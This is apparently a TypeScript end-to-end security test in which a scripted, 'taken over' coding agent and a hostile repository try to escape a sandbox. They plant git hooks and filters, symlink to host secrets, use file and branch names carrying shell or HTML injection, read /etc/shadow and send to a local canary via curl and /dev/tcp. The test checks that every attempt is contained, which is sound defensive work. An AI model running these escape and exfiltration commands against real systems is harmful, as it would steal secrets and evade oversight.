/**
 * A malicious repository and a malicious agent in the whole product: the real `claude`, a real sandbox, real git. Nothing that they plant runs
 * outside of the sandbox, leads out of the tree, or breaks what people see.
 */
import { spawn } from 'node:child_process'
import { subscribe, unsubscribe } from 'node:diagnostics_channel'
import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { Socket } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { getTerminal, sendMessage } from '#domain/api/chat.schema.ts'
import { updateProjectSettings } from '#domain/api/projectSettings.schema.ts'
import { listBranches } from '#domain/api/projects.schema.ts'
import {
  createPullRequest,
  createTask,
  executeTask,
  getTaskDiff,
  type GitDiff,
  type Task,
} from '#domain/api/tasks.schema.ts'
import { locateClaude } from '../../services/runner/agents/claude/claude.ts'
import { git, gitDone } from '../contracts/codeHost.fixture.ts'
import { filesWith, memoryWith, rootOf, toldInProc } from '../hostile/sandboxContents.ts'
import { startCanary, type Canary } from '../hostile/canary.ts'
import { hostileRepository, instructions, optionBranch } from '../hostile/repository.ts'
import {
  baitFiles,
  allTraps,
  leaving,
  markOf,
  plantAll,
  plantedFiles,
  runToItsEnd,
} from '../hostile/traps.ts'
import type { Person } from '../product/person.ts'
import { apiKey, cleanEnvironment, ownFolder, startProduct, type Product } from '../product.ts'
import { testTimeoutMs } from '../patience.ts'
import { note } from '../report/notes.ts'
import { createGate, startMessagesApi, type MessagesApi } from '../standins/messagesApi.ts'
import { pushElsewhere } from './pushing.ts'
import { hasEnded } from './scene.ts'
import { openStoppedProduct } from './stoppedProduct.ts'

const secret = 'the secret of the host'

/** Names that a file can have, and that a program might take for something else. */
const awkwardNames = [
  'new\nline.js',
  'quo"te\'s.js',
  'esc\u001B[31mred.js',
  'bidi\u202Esj.exe',
  'tab\t.js',
  'back\\slash.js',
  '--output=x',
  '-rf',
  ' leading and trailing ',
  '$(touch x).js',
  '<img src=x onerror=alert(1)>.js',
  'a => b.js',
  '{a => b}.js',
  'ünï😀.js',
]
/** As bash writes them, byte by byte. */
const inBash = (name: string | Uint8Array) =>
  `$'./${[...Buffer.from(name)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')}'`

const someone = {
  GIT_AUTHOR_NAME: 'Ada',
  GIT_AUTHOR_EMAIL: 'ada@example.com',
  GIT_COMMITTER_NAME: 'Ada',
  GIT_COMMITTER_EMAIL: 'ada@example.com',
  GIT_TERMINAL_PROMPT: '0',
}

const gate = createGate()
let folder = ''
let marks = ''
let outside = ''
let wire = ''
let canary: Canary
let api: MessagesApi
let product: Product
let ada: Person
let projectId = ''
let taskId = ''
/** What the page would show of the changes: with the agent's own git directory, and with another in its place. */
const diffs: GitDiff[] = []
/** What the agent's probes printed. */
let probed = ''
/** What was within the reach of the sandbox, while an agent was at work in it. */
const inSandbox: { pid: number; told: Buffer; keyInFiles: readonly string[]; files: number }[] = []
const memories: { found: boolean; read: number }[] = []

/** What came in on each port of this process, where the stand-in for GitHub listens. */
const heard = new Map<number, Buffer[]>()
/** After the server's own listener: one that comes before would make the connection flow too soon. */
function hear(message: unknown): void {
  if (!isObject(message) || !('socket' in message) || !(message.socket instanceof Socket)) return
  const { localPort = 0 } = message.socket
  const chunks = heard.get(localPort) ?? []
  heard.set(localPort, chunks)
  message.socket.on('data', (chunk: Buffer) => chunks.push(chunk))
}
const isObject = (value: unknown): value is object => typeof value === 'object' && value !== null

const params = () => ({ taskId })
const holdsKey = (bytes: Buffer): boolean => formsOf(apiKey).some((form) => bytes.includes(form))

beforeAll(async () => {
  note('messages of the model', 'a scripted Messages API, not Anthropic')
  note('the code host', 'a stand-in for GitHub')
  subscribe('net.server.socket', hear)
  folder = await ownFolder()
  ;[marks, outside, wire] = [join(folder, 'marks'), join(folder, 'outside'), join(folder, 'wire')]
  // Open to everybody: what keeps a sandbox from them is not who may read a file.
  for (const made of [marks, outside, wire]) await mkdir(made, { mode: 0o777 })
  for (const name of ['secret.txt', 'greet.js']) await writeFile(join(outside, name), `${secret}\n`)
  canary = await startCanary()
  const repository = join(folder, 'engine')
  await hostileRepository(repository, { marks, outside, canary: canary.url })
  const bash = (command: string) => ({ name: 'Bash', input: { command, description: 'Work' } })
  api = await startMessagesApi([
    {
      when: /Take over/,
      turns: [
        { tools: [bash(takeOver().join('\n'))] },
        { text: 'I have taken over.', hold: { afterWords: 2, gate } },
      ],
    },
  ])
  product = await startProduct({
    repos: [repository],
    model: { messagesApi: api },
    codeHost: 'github',
    env: { LOG_LEVEL: 'debug', WIRE_FOLDER: wire },
    preload: new URL('../hostile/wire.js', import.meta.url).href,
  })
  ada = await product.signIn('ada')
  projectId = await ada.project('engine')
  taskId = (await ada.task(projectId, 'Take over')).id
  await Promise.race([gate.reached, ada.taskOnce(taskId, hasEnded, testTimeoutMs).then(endedEarly)])
  await lookIntoTheSandbox()
  gate.release()
  await ada.taskOnce(taskId, hasEnded)
})
afterAll(async () => {
  unsubscribe('net.server.socket', hear)
  gate.release()
  await product?.stop().finally(() => api.close())
  await canary?.close()
  await rm(folder, { recursive: true, force: true })
})

/** All that the agent does at once: lays its traps, changes what they are laid for, and puts in the tree what no program likes. */
function takeOver(): readonly string[] {
  return [
    ...plantAll('.git', marks),
    ...Object.keys(baitFiles)
      .slice(1)
      .map((name) => `echo changed >> ${name}`),
    ...awkwardNames.map((name) => `echo x > ${inBash(name)}`),
    `echo x > ${inBash(Uint8Array.of(0x62, 0xff, 0x2e, 0x6a, 0x73))}`,
    // Links in the place of a file and of a folder, to what the server can read.
    `ln -sf ${outside}/secret.txt README.md`,
    `ln -s ${outside}/secret.txt new-leak.txt`,
    `rm -r src && ln -s ${outside} src`,
    'echo overwritten > leak.txt; echo overwritten > leak/secret.txt; echo overwritten > src/new.txt',
    'mkfifo pipe',
    'git init -q nested && cp .git/config nested/.git/config && echo x > nested/x',
    'git init -q --bare bare.git && cp .git/config bare.git/config',
    'mkdir file2 && echo "gitdir: ../nested/.git" > file2/.git && echo x > file2/x',
    'truncate -s 1G large.bin',
  ]
}

function endedEarly(task: Task): never {
  throw new Error(`The task ended before the agent had taken over: ${JSON.stringify(task, null, 1)}`)
}

/** Reads, from outside, what is in reach of each process in the sandbox. */
async function lookIntoTheSandbox(): Promise<void> {
  const host = await rootOf('self')
  for (const { pid, command } of await product.processes()) {
    // The server and git have the whole machine within reach; of bubblewrap itself the sandbox sees nothing.
    const root = await rootOf(pid)
    if (root === undefined || root === host || command.includes('bwrap')) continue
    const { found, read } = await filesWith(pid, holdsKey)
    inSandbox.push({ pid, told: await toldInProc(pid), keyInFiles: found, files: read })
    memories.push(await memoryWith(pid, holdsKey))
  }
}

const runInSandbox = async (command: string): Promise<void> => {
  const { task } = await ada.ask(executeTask, { params: params(), body: { command } })
  await ada.taskOnce(taskId, (now) => hasEnded(now) && now.execution?.turn === task.execution?.turn)
}
const readDiff = async (): Promise<GitDiff> => {
  const { data } = await ada.ask(getTaskDiff, { params: params() })
  diffs.push(data)
  return data
}
const printed = async (): Promise<string> =>
  (await ada.ask(getTerminal, { params: params(), query: { limit: '5000' } })).output
    .map(({ content }) => content)
    .join('')
const left = () => readdir(marks)
const bare = () => join(product.dataDir, 'codehost')

/** What requests were authorized with, also where git put it into a name and password. */
function tokensIn(requests: string): readonly string[] {
  const found = [...requests.matchAll(/^authorization: *(basic|bearer|token) +(\S+)/gim)]
  const tokens = found.map(([, scheme, value = '']) =>
    scheme?.toLowerCase() === 'basic'
      ? (Buffer.from(value, 'base64').toString('utf8').split(':')[1] ?? '')
      : value,
  )
  return [...new Set(tokens)].filter((token) => token !== '')
}

/** The forms in which a secret would still be one. */
function formsOf(text: string): readonly string[] {
  const bytes = Buffer.from(text)
  return [
    text,
    encodeURIComponent(text),
    bytes.toString('hex'),
    bytes.toString('base64').replace(/=+$/, ''),
    bytes.toString('base64url'),
    Buffer.from(`x-access-token:${text}`).toString('base64').replace(/=+$/, ''),
  ]
}

describe('the changes of an agent that was taken over', () => {
  test('are read, whatever its files are called', async () => {
    const { status, changedFiles } = await readDiff()
    expect(status).toBe('ready')
    const names = changedFiles.map(({ fileName }) => fileName)
    expect(names).toEqual(expect.arrayContaining(awkwardNames))
    expect(names).toContain('b\uFFFD.js')
  })

  test('show a link as where it leads, and nothing of what is there', async () => {
    const { changedFiles } = await readDiff()
    const diffOf = (name: string) => changedFiles.find(({ fileName }) => fileName === name)?.diff
    expect(diffOf('new-leak.txt')).toContain(`+${outside}/secret.txt`)
    expect(diffOf('README.md')).toContain(`+${outside}/secret.txt`)
    expect(diffOf('src')).toContain(`+${outside}`)
    expect(changedFiles.find(({ fileName }) => fileName === 'src/greet.js')?.status).toBe('deleted')
    expect(JSON.stringify(changedFiles)).not.toContain(secret)
  })

  test('name a file of 1 GB without reading it', async () => {
    const { changedFiles } = await readDiff()
    const large = changedFiles.find(({ fileName }) => fileName === 'large.bin')
    expect(large).toMatchObject({ status: 'untracked', binary: true })
    expect(large?.diff).toBe('\\ The file is too large to show.\n')
  })

  test('name repositories in the tree, and do not go into them', async () => {
    const { changedFiles } = await readDiff()
    const nested = changedFiles.filter(({ fileName }) => /^(nested|file2)/.test(fileName))
    expect(nested.map(({ fileName }) => fileName)).toContain('nested/')
    expect(nested.flatMap(({ diff }) => (diff.includes('+x') ? [diff] : []))).toEqual([])
  })

  test('wrote nothing outside of the tree', async () => {
    expect((await readdir(outside)).toSorted()).toEqual(['greet.js', 'secret.txt'])
    for (const name of await readdir(outside))
      expect(await readFile(join(outside, name), 'utf8')).toBe(`${secret}\n`)
  })
})

describe('a pull request of an agent that was taken over', () => {
  test('is refused while a file of 1 GB is among the changes, by its name', async () => {
    const refused = await ada.refused(createPullRequest, { params: params() })
    expect(refused).toMatchObject({ status: 422, error: expect.stringContaining('large.bin') })
  })

  test('has the links as links, the names as they are, and the files as no filter would have them', async () => {
    await runInSandbox('rm large.bin')
    await readDiff()
    expect(await ada.refused(createPullRequest, { params: params() })).toMatchObject({
      status: 422,
      error: expect.stringMatching(/text\.bait.*filter=evil/),
    })
    const allowedFilters = ['evil']
    await ada.ask(updateProjectSettings, { params: { projectId }, body: { allowedFilters } })
    await ada.ask(createPullRequest, { params: params() })
    const at = join(folder, 'clone')
    const { workingBranch } = await ada.taskOnce(taskId, () => true)
    await gitDone(folder, ['clone', '-q', '--bare', `${product.codeHostUrl}/ada/engine.git`, at])
    const tree = (await gitDone(at, ['ls-tree', '-r', '-z', workingBranch ?? ''])).split('\0')
    const kinds = new Map(tree.map((line) => [line.split('\t').slice(1).join('\t'), line.slice(0, 6)]))
    for (const name of awkwardNames) expect(kinds.get(name)).toBe('100644')
    for (const name of ['README.md', 'src', 'new-leak.txt', 'leak', 'leak.txt'])
      expect(kinds.get(name)).toBe('120000')
    expect([...kinds.keys()].filter((name) => /^(nested|file2)/.test(name))).toEqual([])
    expect(await gitDone(at, ['show', `${workingBranch}:text.bait`])).toBe('as it was\nchanged')
    // The submodules of the base are what they were: nothing was asked of their addresses.
    for (const name of ['sub', 'file', 'option']) expect(kinds.get(name)).toBe('160000')
    const found = await git(at, ['grep', '-l', secret, workingBranch ?? ''])
    expect(found).toMatchObject({ code: 1, stdout: '' })
  })

  test('is updated from the tree alone when another git directory was put in the place of the agent’s', async () => {
    const swap = [
      'mv .git .git2 && git init -q .',
      'cp .git2/config .git/config && cp -r .git2/hooks .git/',
      ...plantAll('.git', marks),
      'git config core.worktree /home/agent',
      'echo again >> text.bait',
    ]
    await runInSandbox(swap.join('\n'))
    const { changedFiles, commitComparison } = await readDiff()
    expect(changedFiles.find(({ fileName }) => fileName === 'text.bait')?.diff).toContain('+again')
    expect(commitComparison.ahead).toBe(1)
    const { pr } = await ada.ask(createPullRequest, { params: params() })
    expect(pr.number).toBe(1)
  })
})

describe('what others pushed', () => {
  test('is not written through a link that an agent put in its way', async () => {
    const { workingBranch } = await ada.taskOnce(taskId, () => true)
    await runInSandbox(`echo way >> .gitignore; ln -s ${outside} way; echo more >> text.bait`)
    const clone = join(folder, 'elsewhere')
    const pushing = { dataDir: product.dataDir, clone, branch: workingBranch ?? '' }
    await pushElsewhere(pushing, {
      'way/secret.txt': 'overwritten\n',
      'way/new.txt': 'overwritten\n',
      // Both changed it: the attributes name a driver for its merge.
      'text.bait': 'top\nas it was\nchanged\nagain\n',
    })
    const refused = await ada.refused(createPullRequest, { params: params() })
    expect(refused).toMatchObject({ status: 422, error: expect.stringContaining('beyond a symbolic link') })
    expect((await readdir(outside)).toSorted()).toEqual(['greet.js', 'secret.txt'])
    expect(await readFile(join(outside, 'secret.txt'), 'utf8')).toBe(`${secret}\n`)
    // Without the link it comes in.
    await runInSandbox('rm way')
    await ada.ask(createPullRequest, { params: params() })
    const tree = join(product.dataDir, 'runner/tasks', taskId, 'tree')
    expect(await readFile(join(tree, 'way/new.txt'), 'utf8')).toBe('overwritten\n')
    expect(await readFile(join(tree, 'text.bait'), 'utf8')).toBe('top\nas it was\nchanged\nagain\nmore\n')
  })
})

describe('of what was planted, nothing ran outside of the sandbox', () => {
  const ranBefore: string[] = []
  let planted = ''
  let trusted = ''
  let config = ''
  beforeAll(async () => {
    // What the product did is done: from here on traps are set off on purpose.
    ranBefore.push(...(await left()))
    const tree = join(product.dataDir, 'runner/tasks', taskId, 'tree')
    const files = ['.git/config', '.git2/config', '.git2/hooks/pre-commit', ...plantedFiles]
    planted = (await Promise.all(files.map((file) => readFile(join(tree, file), 'utf8')))).join('\n')
    trusted = join(folder, 'trusted')
    await gitDone(folder, ['clone', '-q', 'engine', 'trusted'])
    config = await readFile(join(trusted, '.git/config'), 'utf8')
    for (const name of Object.keys(baitFiles).slice(1)) await writeFile(join(trusted, name), 'changed\n')
  })

  test('nothing at all', () => expect(ranBefore).toEqual([]))

  test.each(allTraps)('not $name, which a git that trusts the tree does run', async (trap) => {
    const command = leaving(marks, trap.name)
    expect(planted).toContain(command)
    await writeFile(join(trusted, '.git/config'), config)
    const on = { cwd: trusted, env: { ...cleanEnvironment(folder), ...someone } }
    const lines = [...(trap.before ?? []), ...trap.plant('.git', command)]
    await runToItsEnd('bash', ['-c', lines.join('\n')], on)
    const told = await runToItsEnd('git', trap.goesOff, {
      ...on,
      ...(trap.input === undefined ? {} : { input: trap.input }),
    })
    expect([told, ...(await left())]).toContain(markOf(trap.name))
    await rm(marks, { recursive: true })
    await mkdir(marks, { mode: 0o777 })
  })

  test('not what a submodule’s address names, which git runs where it may', async () => {
    const args = ['-c', 'protocol.ext.allow=always', 'submodule', 'update', '--init', 'sub']
    const told = await runToItsEnd('git', args, { cwd: trusted, env: cleanEnvironment(folder) })
    expect([told, ...(await left())]).toContain('ext')
    await rm(join(marks, 'ext'))
  })

  test('not what `.claude` and `.mcp.json` name, which a `claude` that trusts the folder runs, and shows its key to', async () => {
    // In the sandbox it would have left its mark in the tree.
    const inTree = await readdir(join(product.dataDir, 'runner/tasks', taskId, 'tree'))
    expect(inTree.filter((name) => name.startsWith('ran-'))).toEqual([])
    expect(canary.heard).toEqual([])
    for (const { headers } of api.requests) expect(headers['x-api-key']).toBe(apiKey)

    const located = await locateClaude({
      configured: undefined,
      path: cleanEnvironment(folder)['PATH'] ?? '',
    })
    expect(located.found).toBe(true)
    const env = {
      ...cleanEnvironment(join(folder, 'home')),
      ANTHROPIC_API_KEY: 'sk-ant-api03-a-key-for-the-canary-0123456789',
      // Nobody is there: it is the repository's own settings that lead to the canary.
      ANTHROPIC_BASE_URL: 'http://127.0.0.1:1',
      CLAUDE_CODE_MAX_RETRIES: '0',
      CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: '1',
      DISABLE_AUTOUPDATER: '1',
    }
    await mkdir(join(folder, 'home'))
    const child = spawn(located.found ? located.path : '', ['-p', 'hello'], {
      cwd: trusted,
      env,
      stdio: 'ignore',
    })
    try {
      await expect
        .poll(left)
        .toEqual(expect.arrayContaining(['SessionStart', 'UserPromptSubmit', 'apiKeyHelper', 'mcp']))
      await expect.poll(() => canary.heard.join('\n')).toContain('stolen')
    } finally {
      child.kill('SIGKILL')
    }
    await rm(marks, { recursive: true })
    await mkdir(marks, { mode: 0o777 })
  })
})

describe('an agent that was taken over', () => {
  test('was given the instructions of the repository all the same', () => {
    const asked = JSON.stringify(api.requests.map(({ body }) => body))
    for (const text of Object.values(instructions)) expect(asked).toContain(text.trim())
  })

  test('sees no file of the host, none of its processes, and reaches nobody', async () => {
    const probe = [
      `cat ${outside}/secret.txt leak.txt src/greet.js`,
      `cat ${product.dataDir}/master.key ${product.dataDir}/events.sqlite; ls ${product.dataDir} ${bare()}`,
      `touch ${join(marks, 'from-the-sandbox')}`,
      'cat /etc/shadow; ls -a /root',
      'echo pids: $(ls /proc | grep -c "^[0-9]")',
      `curl -s -m 3 ${canary.url}/from-the-sandbox || bash -c 'exec 3<>/dev/tcp/127.0.0.1/${new URL(canary.url).port}'`,
    ]
    await runInSandbox(probe.join('\n'))
    probed = await printed()
    expect(probed).not.toContain(secret)
    expect(probed).not.toContain('root:')
    expect(probed).toMatch(/cat: leak.txt: No such file or directory/)
    expect(Number(/pids: (\d+)/.exec(probed)?.[1])).toBeLessThan(12)
    expect(await left()).toEqual([])
    expect(canary.heard.filter((line) => line.includes('from-the-sandbox'))).toEqual([])
  })
})

describe('an agent’s home that is a link out of the sandbox', () => {
  test('makes way for one of its own, and the next turn goes well', async () => {
    await runInSandbox(`rm -rf ~/.claude && ln -s ${outside} ~/.claude`)
    // No agent waits from before.
    await product.terminate()
    await product.restart()
    await ada.ask(sendMessage, { params: params(), body: { message: 'Go on' } })
    const turn = (await ada.taskOnce(taskId, () => true)).execution?.turn
    const task = await ada.taskOnce(taskId, (now) => hasEnded(now) && now.execution?.turn === turn)
    expect(task).toMatchObject({ status: 'completed', failure: null })
    expect((await readdir(outside)).toSorted()).toEqual(['greet.js', 'secret.txt'])
  })
})

describe('a branch that would be an option', () => {
  test('is shown as a branch, and refused to a task in a sentence', async () => {
    const { branches } = await ada.ask(listBranches, { params: { projectId } })
    expect(branches.map(({ name }) => name)).toContain(optionBranch)
    for (const branch of [optionBranch, `--upload-pack=touch ${join(marks, 'branch')}`, '-x']) {
      const body = { projectId, description: 'Go', branch, agent: 'claude' } as const
      expect(await ada.refused(createTask, { body })).toMatchObject({
        status: 400,
        code: 'invalid_input',
        field: 'branch',
      })
    }
    expect(await left()).toEqual([])
  })
})

describe('the key of the model', () => {
  test('was in no environment, no argument and no file of the sandbox', () => {
    expect(inSandbox.length).toBeGreaterThan(0)
    for (const { told, keyInFiles, files } of inSandbox) {
      expect(holdsKey(told)).toBe(false)
      expect(keyInFiles).toEqual([])
      expect(files).toBeGreaterThan(20)
    }
    // It was really looked at: the agent has a token of its own there.
    expect(inSandbox.filter(({ told }) => told.includes('ANTHROPIC_API_KEY=')).length).toBeGreaterThan(0)
  })

  test('was in the memory of none of its processes', (context) => {
    const read = Math.max(...memories.map((memory) => memory.read))
    const mayRead = process.getuid?.() === 0 || read > 0
    context.skip(!mayRead, 'only root may read the memory of other processes here')
    expect(read).toBeGreaterThan(10_000_000)
    expect(memories.filter(({ found }) => found)).toEqual([])
  })

  test('came to nobody but the model, and the code host’s token to nobody but the code host', async () => {
    const toCodeHost = Buffer.concat(heard.get(Number(new URL(product.codeHostUrl).port)) ?? [])
    expect(holdsKey(toCodeHost)).toBe(false)
    const tokens = tokensIn(toCodeHost.toString('latin1'))
    // The person's, that of an installation, which git shows in its own way, and the App's own.
    for (const form of [/^ghu_/, /^ghs_/, /^eyJ/]) expect(tokens.some((token) => form.test(token))).toBe(true)
    const holdsToken = (bytes: Buffer) => tokens.flatMap(formsOf).some((form) => bytes.includes(form))
    const toProduct = await readFile(join(wire, new URL(product.base).port))
    for (const holds of [holdsKey, holdsToken]) expect(holds(toProduct)).toBe(false)
    const toModel = Buffer.from(JSON.stringify(api.requests))
    expect(holdsToken(toModel)).toBe(false)
    for (const { told } of inSandbox) expect(holdsToken(told)).toBe(false)
    const said = Buffer.from(product.logs.stdout + product.logs.stderr + (await printed()))
    for (const holds of [holdsKey, holdsToken]) expect(holds(said)).toBe(false)

    await product.terminate()
    const stored = await openStoppedProduct(product.dataDir)
    try {
      const events = await stored.eventStore.readAll(null, 100_000)
      const opened = await Promise.all(events.map((event) => stored.log.open(event)))
      const log = Buffer.from(JSON.stringify(opened))
      expect(log.includes('Take over')).toBe(true)
      for (const holds of [holdsKey, holdsToken]) expect(holds(log)).toBe(false)
    } finally {
      await stored.close()
      await product.restart()
    }
  })
})
